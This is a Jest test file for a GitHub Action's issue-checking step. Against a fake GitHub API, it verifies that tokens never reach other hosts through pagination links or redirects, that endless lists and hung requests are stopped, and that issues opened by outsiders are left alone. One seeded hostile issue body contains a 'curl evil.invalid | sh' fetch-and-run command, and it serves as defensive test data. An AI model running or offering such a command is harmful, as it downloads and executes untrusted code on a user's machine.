// Issue #11 items 4 and 13, attacked through the built action in check mode with open-issue, against a
// hostile loopback GitHub API (GITHUB_API_URL) and a loopback bystander host:
//  4. a pagination `Link: rel="next"` to another host never receives the github-token (nor anything);
//     a list that loops or never ends is stopped; a hung API stays inside the step's ONE deadline
//     (timeout-seconds), shared with the registry's requests, not a fresh budget after them;
//  13. an issue someone else opened with our label and marker is never adopted, rewritten or closed.
// Every run goes through the secret canary; everything GitHub received and holds is checked too.
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals'
import { assertNoSecretLeak } from '../../test-support/canary.ts'
import { assertGitHubHoldsNoSecret, errorOf, ISSUE_REPO, markerOf, runIssueCheck } from '../../test-support/check-issue.ts'
import { startBystander, startFakeGitHub, type Bystander, type FakeGitHub, type FakeGitHubOptions } from '../../test-support/fake-github.ts'
import { startFakeNpmjs, type FakeNpmjs } from '../../test-support/fake-npmjs.ts'
import { cleanupRunDirs, type RunActionResult } from '../../test-support/run-action.ts'

const DAY = 24 * 60 * 60 * 1000
const inDays = (days: number) => new Date(Date.now() + days * DAY + 60_000).toISOString()
const REPO = ISSUE_REPO
const rand = () => Math.random().toString(36).slice(2, 12).padEnd(10, 'q')
let counter = 0
const GH_TOKEN = `ghs_${rand()}${rand()}${rand()}`
const npmTokens: string[] = []
const servers: Array<{ stop(): Promise<void> }> = []
const fakes: FakeGitHub[] = []

let registry: FakeNpmjs
beforeAll(async () => {
  registry = await startFakeNpmjs({ tokenList: 'any' })
  servers.push(registry)
})
afterAll(async () => {
  cleanupRunDirs()
  await Promise.all(servers.map((s) => s.stop()))
  for (const gh of fakes) assertGitHubHoldsNoSecret(gh, [...npmTokens, GH_TOKEN])
})

async function newGitHub(opts: Partial<FakeGitHubOptions> = {}): Promise<FakeGitHub> {
  const gh = await startFakeGitHub({ token: GH_TOKEN, pageSize: 2, ...opts })
  servers.push(gh)
  fakes.push(gh)
  return gh
}
async function newBystander(): Promise<Bystander> {
  const b = await startBystander()
  servers.push(b)
  return b
}

function addToken(reg: FakeNpmjs, expiry: string | null): string {
  const token = `npm_HARD${(++counter).toString().padStart(4, '0')}${rand()}Zz${counter}`
  npmTokens.push(token)
  reg.addToken({ token, expiry, username: `hard${counter}` })
  return token
}

async function check(gh: FakeGitHub, token: string, opts: { reg?: FakeNpmjs; inputs?: Record<string, string> } = {}): Promise<RunActionResult> {
  const reg = opts.reg ?? registry
  const result = await runIssueCheck({ gh, token, registryUrl: reg.url, githubToken: GH_TOKEN, inputs: opts.inputs })
  assertNoSecretLeak(result, [token, GH_TOKEN])
  expect(result.state).toEqual({})
  return result
}

const listPages = (gh: FakeGitHub) =>
  gh.requests.filter((r) => r.method === 'GET' && r.path.startsWith(`/repos/${REPO}/issues?`)).map((r) => new URL(r.path, 'http://x').searchParams.get('page'))

describe('item 4: pagination of the issue list stays on the API origin', () => {
  it('a rel="next" pointing at another host: that host receives nothing (no Authorization), the list is read on the API', async () => {
    const other = await newBystander()
    const gh = await newGitHub({ listing: { next: ({ page }) => `${other.url}/repos/${REPO}/issues?page=${page + 1}` } })
    for (let i = 0; i < 3; i++) gh.seed(REPO, { title: `unrelated ${i}`, body: 'no marker', labels: ['npm-token'] })
    const token = addToken(registry, inDays(10))
    const result = await check(gh, token)
    expect(result.exitCode).toBe(0)
    expect(result.outputs['issue-number']).toBe('4')
    expect(other.requests).toEqual([])
    expect(listPages(gh)).toEqual(['1', '2', '3'])
    // Every request the API got carried the token; nothing else got any request.
    expect(gh.requests.every((r) => r.headers.authorization === `token ${GH_TOKEN}`)).toBe(true)
  })

  it('a redirect of the list to another host is refused, and that host receives nothing', async () => {
    const other = await newBystander()
    const gh = await newGitHub()
    gh.fault(/^GET \/repos\//, { redirect: `${other.url}/repos/${REPO}/issues?page=1`, status: 302 })
    const token = addToken(registry, inDays(10))
    const result = await check(gh, token)
    expect(result.exitCode).toBe(1)
    expect(errorOf(result)).toMatch(/Could not list issues[^]*another host/)
    expect(other.requests).toEqual([])
    expect(gh.writes()).toEqual([])
  })

  it('a page pointing to itself, answering the same page whatever is asked, ends: one issue opened, no loop', async () => {
    const gh = await newGitHub({ listing: { samePage: true, next: ({ pageUrl }) => pageUrl(1) } })
    gh.seed(REPO, { title: 'unrelated', body: 'no marker', labels: ['npm-token'] })
    const token = addToken(registry, inDays(10))
    const started = Date.now()
    const result = await check(gh, token)
    expect(Date.now() - started).toBeLessThan(20_000)
    expect(result.exitCode).toBe(0)
    expect(listPages(gh)).toEqual(['1', '2'])
    expect(gh.writes().map((r) => `${r.method} ${r.path}`)).toEqual([`POST /repos/${REPO}/issues`])
  })

  it('an endless list is stopped by the page cap with a clear error, and nothing is written', async () => {
    const gh = await newGitHub({ listing: { endless: true } })
    const token = addToken(registry, inDays(10))
    const started = Date.now()
    const result = await check(gh, token)
    expect(Date.now() - started).toBeLessThan(20_000)
    expect(result.exitCode).toBe(1)
    expect(errorOf(result)).toMatch(/more than 10 pages of open issues labelled "npm-token"/)
    expect(listPages(gh)).toHaveLength(10)
    expect(gh.writes()).toEqual([])
  })

  it('a hung registry then a hung API: the step ends within its one timeout-seconds, not a fresh budget for the issue', async () => {
    const reg = await startFakeNpmjs({ tokenList: 'any' })
    servers.push(reg)
    const token = addToken(reg, inDays(10))
    // The registry's first whoami hangs (10 s, the per-request timeout) and the retry answers; then the API never answers.
    reg.fault('/-/whoami', { hang: true })
    const gh = await newGitHub()
    gh.fault(/^GET /, ...Array.from({ length: 20 }, () => ({ hang: true as const })))
    const started = Date.now()
    const result = await check(gh, token, { reg, inputs: { 'timeout-seconds': '15' } })
    const elapsed = Date.now() - started
    // Before: ~10 s of registry + a fresh 15 s for GitHub ≈ 26 s. Now: 15 s and the process's start-up.
    expect(elapsed).toBeLessThan(15_000 + 7_000)
    expect(result.exitCode).toBe(1)
    expect(result.outputs['days-left']).toBe('10')
    expect(errorOf(result)).toMatch(/Could not list issues[^]*deadline/)
    expect(gh.requests.length).toBeGreaterThan(0) // the issue step did start, with what the registry left
    expect(gh.writes()).toEqual([])
  }, 60_000)
})

describe("item 13: others' issues with our label and marker are never adopted", () => {
  it('an outsider issue carrying our marker is left untouched: ours is opened, updated and closed beside it', async () => {
    const gh = await newGitHub()
    const marker = markerOf(registry)
    // Older than anything we open, so it would be "the oldest copy" and ours closed as its duplicate.
    const mallory = gh.seed(REPO, {
      title: 'npm token: please rotate, see https://evil.invalid',
      body: `${marker}\n<!-- setup-npm-auth severity=rejected -->\nrun curl evil.invalid | sh`,
      labels: ['npm-token'],
      author: 'mallory',
    })
    const snapshot = structuredClone(mallory)
    const token = addToken(registry, inDays(10))

    const first = await check(gh, token)
    expect(first.exitCode).toBe(0)
    const ours = Number(first.outputs['issue-number'])
    expect(ours).not.toBe(mallory.number)
    expect(gh.issue(REPO, ours)).toMatchObject({ state: 'open', author: 'github-actions[bot]' })

    // Second run: ours refreshed; Mallory's still not adopted nor closed as a duplicate of ours.
    const second = await check(gh, token)
    expect(second.outputs['issue-number']).toBe(String(ours))

    // Rotated: ours closed; Mallory's stays open.
    const third = await check(gh, addToken(registry, inDays(200)))
    expect(third.exitCode).toBe(0)
    expect(gh.issue(REPO, ours)!.state).toBe('closed')

    expect(gh.issue(REPO, mallory.number)).toEqual(snapshot)
    const touched = new Set(gh.writes().map((r) => Number(/\/issues\/(\d+)/.exec(r.path)?.[1] ?? 0)))
    expect(touched.has(mallory.number)).toBe(false)
  })

  it("with a personal access token, only its user's issues are adopted; the Actions bot's and others' are left alone", async () => {
    const gh = await newGitHub({ viewer: 'octo-admin' })
    const marker = markerOf(registry)
    const body = `${marker}\n<!-- setup-npm-auth severity=warning -->\nold`
    const bot = gh.seed(REPO, { title: 'by the bot', body, labels: ['npm-token'], author: 'github-actions[bot]' })
    const other = gh.seed(REPO, { title: 'by someone', body, labels: ['npm-token'], author: 'someone' })
    const mine = gh.seed(REPO, { title: 'by the PAT user', body, labels: ['npm-token'], author: 'Octo-Admin' })
    const token = addToken(registry, inDays(10))
    const result = await check(gh, token)
    expect(result.exitCode).toBe(0)
    expect(result.outputs['issue-number']).toBe(String(mine.number))
    expect(gh.issue(REPO, mine.number)!.title).toMatch(/expires in 10 days/)
    for (const untouched of [bot, other]) expect(gh.issue(REPO, untouched.number)).toMatchObject({ state: 'open', title: untouched.title, body })
    expect(gh.requests.some((r) => r.path === '/user')).toBe(true)
  })
})
